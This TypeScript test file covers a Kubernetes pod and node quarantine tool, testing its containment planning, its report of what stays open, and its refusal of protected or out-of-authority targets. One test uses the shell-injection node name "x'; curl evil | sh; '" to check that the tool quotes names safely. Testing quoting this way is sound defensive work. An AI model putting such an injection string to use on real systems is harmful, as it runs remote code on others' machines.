import { describe, expect, it } from 'vitest';
import type { SuspectKind } from '../../model/action.js';
import { NOT_STATED } from '../../model/case.js';
import { foresee } from './foresee.js';
import { suspectKindOf } from './owner-effects.js';
import { labelsAfter } from './plan-objects.js';
import { planSteps } from './plan-steps.js';
import type { QuarantineRequest } from './quarantine-request.js';
import type { Scene, Suspect } from './read-scene.js';
import { refuseTarget } from './refuse-target.js';
import { rightsOf } from './step-rights.js';

const TOKEN = 'k7m2p9';
const NAMES = { caseToken: TOKEN, plan: 'p1', deniedBefore: '2026-01-02T00:00:00Z' };
const planHold = (request: QuarantineRequest, scene: Scene) => planSteps(request, { scene, machines: [] }, NAMES);
const NODE = { name: 'worker', uid: 'u-node', object: { metadata: {}, spec: {} } };
const LOST = (seconds?: number) =>
  ['not-ready', 'unreachable'].map((key) => ({
    key: `node.kubernetes.io/${key}`,
    operator: 'Exists',
    effect: 'NoExecute',
    ...(seconds === undefined ? {} : { tolerationSeconds: seconds }),
  }));

const suspectOf = (more: Partial<Suspect> = {}, spec: object = { tolerations: LOST(300) }): Suspect => ({
  namespace: 'shop',
  name: 'cart-1',
  uid: 'u-pod',
  node: 'worker',
  object: { metadata: { labels: { app: 'cart', tier: 'web' } }, spec },
  kind: 'replicaset',
  owner: null,
  ownerSelector: { matchLabels: { app: 'cart' } },
  services: ['cart'],
  moreServices: 0,
  selectorKeys: ['app'],
  ...more,
});
const sceneOf = (suspects: readonly Suspect[], policies: readonly unknown[] = []): Scene => ({
  clusterUid: 'c',
  nodes: [NODE],
  suspects,
  policies: new Map([['shop', policies]]),
});
const REQUEST: QuarantineRequest = {
  target: 'node',
  names: ['worker'],
  suspects: [],
  skip: [],
  maxNodes: 1,
  allowedNodes: [],
};
const namesOf = (scene: Scene, request: Partial<QuarantineRequest> = {}) =>
  planHold({ ...REQUEST, ...request }, scene).map(({ name }) => name);

describe('a plan of level hold', () => {
  it('protects before it contains, and labels no suspect before its policy is there', () => {
    const other = suspectOf({ name: 'cart-2', uid: 'u-pod-2' });
    const steps = planHold(REQUEST, sceneOf([suspectOf(), other]));
    expect(steps.map(({ step }) => step)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
    expect(steps.map(({ phase }) => phase).join(' ')).toMatch(/^(protect ?)+(contain ?)+$/);
    const policy = steps.filter(({ name }) => name === 'deny-policy');
    expect(policy).toHaveLength(1);
    expect(steps.filter(({ name }) => name === 'detach').map(({ needs }) => needs)).toEqual([[8], [8]]);
  });

  it('neither cordons nor taints the node of a pod, and leaves out what is skipped', () => {
    expect(namesOf(sceneOf([suspectOf()]), { target: 'pod' })).toEqual([
      ...['annotate-node', 'annotate-pod', 'pin', 'deny-policy', 'detach'],
    ]);
    const skip = ['annotate-node', 'annotate-pod', 'deny-policy'] as const;
    const steps = planHold({ ...REQUEST, skip }, sceneOf([suspectOf()]));
    expect(steps.map(({ name }) => name)).toEqual(['cordon', 'taint', 'pin', 'detach']);
    expect(steps.at(-1)?.needs).toEqual([]);
  });

  it("makes no step of what is so already, which is then nobody's to take back", () => {
    const node = { ...NODE, object: { metadata: {}, spec: { unschedulable: true } } };
    const pinned = suspectOf({}, { tolerations: LOST() });
    expect(namesOf({ ...sceneOf([pinned]), nodes: [node] })).toEqual([
      ...['annotate-node', 'annotate-pod', 'taint', 'deny-policy', 'detach'],
    ]);
  });

  it('takes away the labels of controllers and Services, and no others', () => {
    expect(labelsAfter(suspectOf(), TOKEN)).toEqual({ 'tier': 'web', 'kubexhibit.dev/quarantine': TOKEN });
  });

  it('asks for the rights to take back what it does, where it does it', () => {
    const rights = rightsOf(planHold(REQUEST, sceneOf([suspectOf()])));
    expect(rights.map(({ verb, resource, namespaces }) => `${verb} ${resource} ${[...namespaces].join()}`)).toEqual([
      ...['get nodes ', 'patch nodes ', 'get pods shop', 'patch pods shop'],
      ...['get networkpolicies shop', 'create networkpolicies shop', 'delete networkpolicies shop'],
    ]);
  });
});

describe('what is foreseen', () => {
  const notAchieved = (scene: Scene) => foresee(scene, planHold(REQUEST, scene), TOKEN).notAchieved.join('\n');

  it('never says that anything is isolated, and names what stays open', () => {
    const said = foresee(sceneOf([suspectOf()]), planHold(REQUEST, sceneOf([suspectOf()])), TOKEN);
    expect(JSON.stringify(said)).not.toContain('isolated');
    expect(said.notAchieved.join('\n')).toContain('valid as before');
    expect(said.sideEffects).toContain('pod shop/cart-1 leaves Service cart');
  });

  it('names a policy of others that lets through what ours denies', () => {
    const policy = {
      metadata: { name: 'allow-all' },
      spec: { podSelector: {}, egress: [{}], policyTypes: ['Egress'] },
    };
    expect(notAchieved(sceneOf([suspectOf()], [policy]))).toContain('egress is allowed by policy allow-all');
    const byLabel = { ...policy, spec: { ...policy.spec, podSelector: { matchLabels: { app: 'cart' } } } };
    expect(notAchieved(sceneOf([suspectOf()], [byLabel]))).not.toContain('allow-all');
  });

  it('names a pod on the network of its node, one that a lost node takes along, and one that its controller still finds', () => {
    expect(notAchieved(sceneOf([suspectOf({}, { hostNetwork: true })]))).toContain('uses the network of its node');
    expect(notAchieved(sceneOf([suspectOf({}, {})]))).toContain('deleted when the node is lost');
    expect(notAchieved(sceneOf([suspectOf({}, { tolerations: [{ operator: 'Exists' }] })]))).not.toContain('is lost');
    const forAMinute = { operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 60 };
    expect(namesOf(sceneOf([suspectOf({}, { tolerations: [forAMinute] })]))).toContain('pin');
    const ofNothingElse = { operator: 'Exists', effect: 'NoSchedule' };
    expect(notAchieved(sceneOf([suspectOf({}, { tolerations: [ofNothingElse] })]))).toContain('deleted when the node');
    const ownerSelector = { matchExpressions: [{ key: 'absent', operator: 'DoesNotExist' }] };
    expect(notAchieved(sceneOf([suspectOf({ ownerSelector })]))).toContain('still found by its controller');
  });

  it('counts the label of ours only where a step gives it, and a pin only where a step makes it', () => {
    const scene = sceneOf([suspectOf()]);
    const without = (...skip: QuarantineRequest['skip']) =>
      foresee(scene, planHold({ ...REQUEST, skip }, scene), TOKEN).notAchieved.join();
    expect(without()).not.toMatch(/no policy restricts it|is not pinned/);
    expect(without('detach')).toContain('pod shop/cart-1: no policy restricts it');
    expect(without('pin')).toContain('pod shop/cart-1 is not pinned');
  });

  it('says that a policy is missing when it was skipped', () => {
    const scene = sceneOf([suspectOf()]);
    const steps = planHold({ ...REQUEST, skip: ['deny-policy'] }, scene);
    expect(foresee(scene, steps, TOKEN).notAchieved.join()).toContain('no policy restricts it');
  });

  it.each<[SuspectKind, object, string | null, string | null]>([
    ['deployment', {}, 'ReplicaSet', 'Deployment'],
    ['replicaset', {}, 'ReplicaSet', null],
    ['statefulset', {}, 'StatefulSet', null],
    ['daemonset', {}, 'DaemonSet', null],
    ['job', {}, 'Job', 'CronJob'],
    ['static', { annotations: { 'kubernetes.io/config.mirror': 'x' } }, 'Node', null],
    ['bare', {}, null, null],
    ['other', {}, 'Workflow', null],
  ])('tells a pod of kind %s', (kind, metadata, owner, behind) => {
    const named = (name: string | null) =>
      name === null ? null : { apiVersion: 'v1', kind: name, name: 'a', uid: 'u' };
    expect(suspectKindOf({ metadata }, named(owner), named(behind))).toBe(kind);
  });
});

describe('a target that is refused', () => {
  const own = { host: 'laptop', bootId: 'boot-1' };
  const refuse = (scene: Scene, request: Partial<QuarantineRequest> = {}, machine = own) => {
    refuseTarget(scene, { ...REQUEST, ...request }, { own: machine, authority: NOT_STATED, nowMs: 0 });
  };
  const withNode = (object: object): Scene => ({ ...sceneOf([]), nodes: [{ ...NODE, object }] });

  it.each([
    { metadata: { labels: { 'node-role.kubernetes.io/control-plane': '' } } },
    { metadata: { labels: { 'node-role.kubernetes.io/master': '' } } },
    { status: { nodeInfo: { bootID: 'boot-1' } } },
  ])('is %j, unless it is named', (object) => {
    expect(() => refuse(withNode(object))).toThrow(expect.objectContaining({ code: 'TARGET_PROTECTED' }));
    expect(() => refuse(withNode(object), { allowedNodes: ['worker'] })).not.toThrow();
  });

  it('is told by a command that a shell takes as one word, whatever the node is called', () => {
    const name = "x'; curl evil | sh; '";
    const scene = { ...sceneOf([]), nodes: [{ ...NODE, name }] };
    const quoted = `Repeat the command with --allow-node 'x'\\''; curl evil | sh; '\\'''`;
    expect(() => refuse(scene, {}, { host: name, bootId: 'unknown' })).toThrow(
      expect.objectContaining({ hints: [quoted] }),
    );
  });

  it('is one of our own name, and none of which the boot is not known', () => {
    expect(() => refuse(withNode({}), {}, { host: 'worker', bootId: 'unknown' })).toThrow('this program runs on');
    expect(() =>
      refuse(withNode({ status: { nodeInfo: { bootID: '' } } }), {}, { host: 'a', bootId: '' }),
    ).not.toThrow();
  });

  it('is more nodes than allowed', () => {
    const scene = { ...sceneOf([]), nodes: [NODE, { ...NODE, name: 'worker-2' }] };
    expect(() => refuse(scene)).toThrow('2 nodes: worker, worker-2');
    expect(() => refuse(scene, { maxNodes: 2 })).not.toThrow();
  });

  it('is beyond the authority of the case', () => {
    const authority = { by: 'b', at: '2026-01-01T00:00:00Z', ground: 'g', limits: { namespaces: ['bank'] } };
    const judge = (suspects: Suspect[]) => refuseTarget(sceneOf(suspects), REQUEST, { own, authority, nowMs: 0 });
    expect(() => judge([suspectOf()])).toThrow(expect.objectContaining({ code: 'LIMIT_OF_AUTHORITY' }));
    expect(() => judge([suspectOf({ namespace: 'bank' })])).not.toThrow();
  });

  it.each(['isolate', 'sever'] as const)('is no whole machine for level %s where namespaces are the limit', (level) => {
    const limitedTo = (limits: object) => ({ by: 'b', at: '2026-01-01T00:00:00Z', ground: 'g', limits });
    const judge = (limits: object, asked: QuarantineRequest['level']) => {
      const authority = limitedTo(limits);
      refuseTarget(sceneOf([suspectOf()]), { ...REQUEST, level: asked ?? 'hold' }, { own, authority, nowMs: 0 });
    };
    expect(() => judge({ namespaces: ['shop'], nodes: ['worker'] }, level)).toThrow(
      expect.objectContaining({
        code: 'LIMIT_OF_AUTHORITY',
        message: `the authority of the case does not reach to the whole machine of node worker: level ${level} takes the network of every pod there, and the limit is namespace shop`,
        hints: ['Repeat the command with --level hold', 'exhibit case show'],
      }),
    );
    expect(() => judge({ namespaces: ['shop'] }, 'hold')).not.toThrow();
    expect(() => judge({ nodes: ['worker'] }, level)).not.toThrow();
  });

  it('is contained no more when the time of the authority is over', () => {
    const limits = { notAfter: '2026-01-02T00:00:00Z' };
    const authority = { by: 'b', at: '2026-01-01T00:00:00Z', ground: 'g', limits };
    const judge = (nowMs: number) => refuseTarget(sceneOf([suspectOf()]), REQUEST, { own, authority, nowMs });
    expect(() => judge(Date.parse(limits.notAfter))).not.toThrow();
    expect(() => judge(Date.parse(limits.notAfter) + 1)).toThrow(
      expect.objectContaining({ code: 'LIMIT_OF_AUTHORITY', subject: `a containment after ${limits.notAfter}` }),
    );
  });
});
